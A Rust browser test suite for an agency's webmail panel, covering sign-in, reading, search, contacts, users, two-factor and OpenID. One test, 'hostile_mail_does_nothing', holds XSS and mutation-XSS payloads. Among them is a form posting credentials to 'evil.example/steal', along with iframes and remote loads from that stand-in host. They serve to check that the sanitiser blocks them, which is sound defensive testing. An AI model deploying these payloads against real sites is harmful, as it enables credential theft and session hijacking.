//! The panel as people use it: in a real Chromium, by mouse, keyboard and phone.

use std::time::Duration;

use serde_json::{Value, json};

use crate::rig::{
    browser::play,
    corpus::Corpus,
    dovecot::{Dovecot, PASSWORD},
    office::{DIRECTOR, Office, SIGN_IN, Way},
    openid::{Provider, office_and},
    sha256,
};

const ANA: &str = "ana@agency.example";
/// Delivery to open panel, Dovecot's own half second included; generous for a busy machine.
const SOON: Duration = Duration::from_secs(8);
const PATHS: [&str; 8] = [
    "/mail",
    "/contacts",
    "/contacts/new",
    "/organizations",
    "/accounts",
    "/accounts/new",
    "/account",
    "/search?q=oferta",
];

/// An agent's account with some mail of the corpus and what a story needs beside it.
fn panel(more: &[Vec<u8>]) -> (Dovecot, Office) {
    let (server, mut office) = (Dovecot::start(), Office::with(&[ANA]));
    server.fill(ANA, Corpus::of(31, ANA).take(30));
    for raw in more {
        server.append(ANA, "INBOX", raw);
    }
    office.add_account(ANA, &server, Way::Plain);
    office.serve();
    office.sync(ANA);
    office.settle(30 + more.len() as u64);
    (server, office)
}

fn asked(office: &Office, more: Value) -> Value {
    let mut asked = json!({"base": office.base(), "email": ANA, "password": SIGN_IN});
    if let (Some(asked), Value::Object(more)) = (asked.as_object_mut(), more) {
        asked.extend(more);
    }
    asked
}

/// A message that is newer than the corpus; `kind` is its content type.
fn mail(subject: &str, kind: &str, body: &str) -> Vec<u8> {
    let id = sha256(subject.as_bytes());
    format!(
        "From: Nowy Klient <nowy.klient@kwiaty.example>\r\nTo: <{ANA}>\r\nSubject: {subject}\r\n\
         Date: Fri, 06 Feb 2026 10:00:00 +0000\r\nMessage-ID: <{id}@kwiaty.example>\r\n\
         MIME-Version: 1.0\r\nContent-Type: {kind}\r\n\r\n{body}\r\n"
    )
    .into_bytes()
}

#[test]
fn sign_in_and_out() {
    let mut office = Office::with(&[ANA]);
    office.serve();
    play("sign_in", &asked(&office, json!({})));
}

#[test]
fn read_a_message() {
    let body = "--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nKlucze są u sąsiada.\r\n\
        --b\r\nContent-Type: application/pdf; name=umowa.pdf\r\n\
        Content-Disposition: attachment; filename=umowa.pdf\r\n\
        Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n--b--";
    let raw = mail("Keys of the flat", "multipart/mixed; boundary=b", body);
    let (_server, office) = panel(&[raw]);
    let story = json!({
        "subject": "Keys of the flat", "words": "Klucze są u sąsiada", "attachment": "umowa.pdf"
    });
    let found = play("read", &asked(&office, story));
    assert_eq!(found["attachment"], "JVBERi0xLjQK");
}

#[test]
fn hostile_mail_does_nothing() {
    let cases = [
        (
            "script",
            "<script>parent.ran=ran=true;alert(1)</script><b>x</b>",
        ),
        (
            "handlers",
            "<img src=x onerror='top.ran=true;alert(2)'><body onload=alert(3)><svg onload=alert(4)>",
        ),
        (
            "mutation",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=alert(5)>\">",
        ),
        (
            "links",
            "<a href='javascript:alert(6)'>press</a><a href='data:text/html,<script>alert(7)</script>'>me</a>\
            <a href='http://evil.example/' target=_top>top</a>",
        ),
        (
            "forms",
            "<form action='http://evil.example/steal'><input name=p autofocus onfocus=alert(8)><button>Sign in</button></form>",
        ),
        (
            "frames",
            "<iframe src='http://evil.example/f'></iframe><object data='http://evil.example/o'></object><embed src=//evil.example/e>",
        ),
        (
            "refresh",
            "<meta http-equiv=refresh content='0;url=http://evil.example/r'><base href='http://evil.example/'><a href=x>x</a>",
        ),
        (
            "loads",
            "<link rel=stylesheet href='http://evil.example/c.css'><style>@import 'http://evil.example/i';\
            body{background:url(http://evil.example/b)}</style><div style='background-image:url(//evil.example/s)'>x</div>\
            <img src='http://evil.example/t.gif' srcset='http://evil.example/u 2x'><video poster='http://evil.example/v'></video>\
            <svg><image href='http://evil.example/w'/><use href='http://evil.example/z#a'/></svg>",
        ),
        (
            "overlay",
            "<div style='position:fixed;inset:0;background:red;z-index:99999!important'>Session over</div>",
        ),
    ];
    let mut more: Vec<Vec<u8>> = cases
        .iter()
        .map(|(name, html)| mail(&format!("hostile {name}"), "text/html; charset=utf-8", html))
        .collect();
    more.push(mail(
        "hostile <img src=x onerror=alert(9)>",
        "text/plain",
        "javascript:alert(10) http://a\"onmouseover=alert(11)",
    ));
    let mut subjects: Vec<String> = cases
        .iter()
        .map(|(name, _)| format!("hostile {name}"))
        .collect();
    subjects.push("hostile <img src=x onerror=alert(9)>".to_owned());
    let (_server, office) = panel(&more);
    let found = play("hostile", &asked(&office, json!({"subjects": subjects})));
    assert_eq!(found["loaded"], json!([]), "{found}");
    let foreign = found["seen"]["foreign"]
        .as_array()
        .expect("connections are counted");
    // A link that is pressed may open a window of its own.
    assert!(foreign.iter().all(|host| host == "evil.example"), "{found}");
    assert_eq!(found["seen"]["dialogs"], json!([]));
}

#[test]
fn search_without_diacritics() {
    let raw = |subject, text| mail(subject, "text/plain; charset=utf-8", text);
    let (_server, office) = panel(&[
        raw("A flat by the river", "Mieszkanie w Łodzi, ulica Źródłowa."),
        raw("Meeting in Iasi", "Întâlnire la Iași, în piață."),
        raw("Yolka", "Ещё одна ёлка у Фёдора."),
    ]);
    let searches = json!({
        "zrodlowa": "A flat by the river", "intalnire piata": "Meeting in Iasi", "елка": "Yolka"
    });
    play("search", &asked(&office, json!({"searches": searches})));
}

#[test]
fn an_unknown_sender_becomes_a_contact() {
    let (_server, office) = panel(&[
        mail("Question one", "text/plain", "First"),
        mail("Question two", "text/plain", "Second"),
    ]);
    let story = json!({"subject": "Question two", "sender": "nowy.klient@kwiaty.example"});
    let found = play("contact", &asked(&office, story));
    assert_eq!(found["rows"], 2, "all old mail shows at once: {found}");
}

#[test]
fn new_mail_shows_without_a_reload() {
    let (server, office) = panel(&[]);
    let raw = mail("Just arrived", "text/plain", "Here I am");
    let sent = json!({
        "port": server.imap, "user": ANA, "password": PASSWORD,
        "raw": String::from_utf8(raw).expect("the mail is ASCII")
    });
    let found = play(
        "live",
        &asked(&office, json!({"subject": "Just arrived", "mail": sent})),
    );
    let shown = Duration::from_millis(found["shown"].as_u64().expect("the time is told"));
    println!("shown {} ms after APPEND began", shown.as_millis());
    assert!(shown < SOON);
}

#[test]
fn everything_fits_a_phone() {
    let (_server, office) = panel(&[mail(
        "On the phone",
        "text/html",
        "<table width=1200><tr><td>wide</table>",
    )]);
    play(
        "phone",
        &asked(&office, json!({"subject": "On the phone", "paths": PATHS})),
    );
}

#[test]
fn everything_by_keyboard() {
    let (_server, office) = panel(&[]);
    play("keyboard", &asked(&office, json!({})));
}

#[test]
fn nothing_keeps_people_out() {
    let (_server, office) = panel(&[]);
    play("looks", &asked(&office, json!({"paths": PATHS})));
}

#[test]
fn a_group_opens_mail_and_says_so() {
    let (_server, office) = panel(&[]);
    office.add_user("bo@agency.example", "agent");
    let mut boss = office.api(DIRECTOR);
    let mut settings = boss.get("/api/v1/agency").json();
    settings["seen_mail"] = "all".into();
    assert_eq!(boss.send("PUT", "/api/v1/agency", &settings).status, 204);
    let story = json!({
        "email": DIRECTOR, "owner": ANA, "joins": "bo@agency.example", "opens": "Gains: 30 messages"
    });
    let found = play("groups", &asked(&office, story));
    assert_eq!(found["rows"], 25, "{found}");
}

/// A picture of one pixel.
const PIXEL: &str = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

#[test]
fn users_are_filtered_made_and_deleted_with_a_receiver() {
    const BO: &str = "bo@agency.example";
    let mut office = Office::with(&[ANA, BO, "off@agency.example"]);
    office.serve();
    office
        .run(&["user", "block", "--email", "off@agency.example"])
        .fine();
    let mut api = office.api(ANA);
    for name in ["Jan", "Ola"] {
        let contact = json!({"last_name": name, "emails": [format!("{name}@client.example")]});
        assert_eq!(api.send("POST", "/api/v1/contacts", &contact).status, 201);
    }
    let story = json!({
        "email": DIRECTOR, "active": 3, "leaves": ANA, "contacts": 2, "receiver": BO,
        "receives": "bo", "png": PIXEL,
    });
    play("users", &asked(&office, story));
    let paths = json!([
        "/users",
        "/users/new",
        "/users/1",
        "/users/1/edit",
        "/users/3/delete"
    ]);
    play(
        "looks",
        &asked(
            &office,
            json!({"email": DIRECTOR, "paths": paths, "message": false}),
        ),
    );
    office.verify();
}

#[test]
fn a_second_factor_is_asked_for_at_the_door() {
    let mut office = Office::with(&[ANA]);
    office.serve();
    play("factor", &asked(&office, json!({"codes": 10})));
    office.verify();
}

#[test]
fn a_new_user_chooses_a_password_by_a_link() {
    const NEW: &str = "nowa@agency.example";
    let mut office = Office::new();
    office.serve();
    let user = json!({"email": NEW, "name": "Nowa Osoba", "role": "agent"});
    let made = office.api(DIRECTOR).send("POST", "/api/v1/users", &user);
    assert_eq!(made.status, 201, "{}", made.text());
    let story = json!({
        "director": DIRECTOR, "email": NEW, "id": made.json()["id"], "weak": "lilac",
        "used": "It was used",
    });
    play("activate", &asked(&office, story));
    office.verify();
}

#[test]
fn an_account_elsewhere_signs_in_without_a_password() {
    // Another site than the panel's, as a provider's is.
    let (mut provider, office) = office_and(Provider::at("localhost"), &[("NAME", "Agency")]);
    let redirect = format!("{}/sign-in/openid/test", office.base());
    provider.start("honest", &json!({"redirect": redirect}));
    let story = json!({"provider": provider.issuer(), "account": "ana@provider.example"});
    play("openid", &asked(&office, story));
    office.verify();
}

#[test]
fn a_message_is_shared_and_taken_back_without_script() {
    let (_server, office) = panel(&[mail("Shared on purpose", "text/plain", "Look")]);
    let args = [
        "user",
        "add",
        "--email",
        "bo@agency.example",
        "--name",
        "Bo Lis",
        "--role",
        "agent",
        "--password-stdin",
    ];
    office.run_with(&args, SIGN_IN).fine();
    let story = json!({
        "subject": "Shared on purpose", "colleague": "bo@agency.example", "name": "Bo Lis",
        "find": "lis"
    });
    let found = play("sharing", &asked(&office, story));
    assert_eq!(found["rows"], 0, "{found}");
}

#[test]
fn mail_is_found_kept_and_told_of() {
    let (server, office) = panel(&[mail("Klucze od bramy", "text/plain", "U portiera")]);
    let contact = json!({"last_name": "Klient", "emails": ["nowy.klient@kwiaty.example"]});
    let contact = office.api(ANA).send("POST", "/api/v1/contacts", &contact);
    assert_eq!(contact.status, 201, "{}", contact.text());
    let sent = |subject: &str| {
        json!({
            "port": server.imap, "user": ANA, "password": PASSWORD, "subject": subject,
            "raw": String::from_utf8(fresh(subject)).expect("the mail is ASCII")
        })
    };
    let story = json!({
        "word": "klucze", "subject": "Klucze od bramy", "contact": contact.json()["id"],
        "first": sent("Klucze od piwnicy"), "second": sent("Nowe drzwi")
    });
    let found = play("finding", &asked(&office, story));
    let shown = Duration::from_millis(found["shownIn"].as_u64().expect("the time is told"));
    println!("in the results {} ms after APPEND began", shown.as_millis());
    assert!(shown < SOON);
    office.verify();
}

/// A message of this very day.
fn fresh(subject: &str) -> Vec<u8> {
    let raw = mail(subject, "text/plain", "Dzisiaj");
    let text = String::from_utf8(raw).expect("the mail is ASCII");
    let now = model::Clock::system().now().timestamp();
    let now = now.to_zoned(jiff::tz::TimeZone::UTC);
    let now = jiff::fmt::rfc2822::to_string(&now).expect("a date");
    text.replace("Fri, 06 Feb 2026 10:00:00 +0000", &now)
        .into_bytes()
}
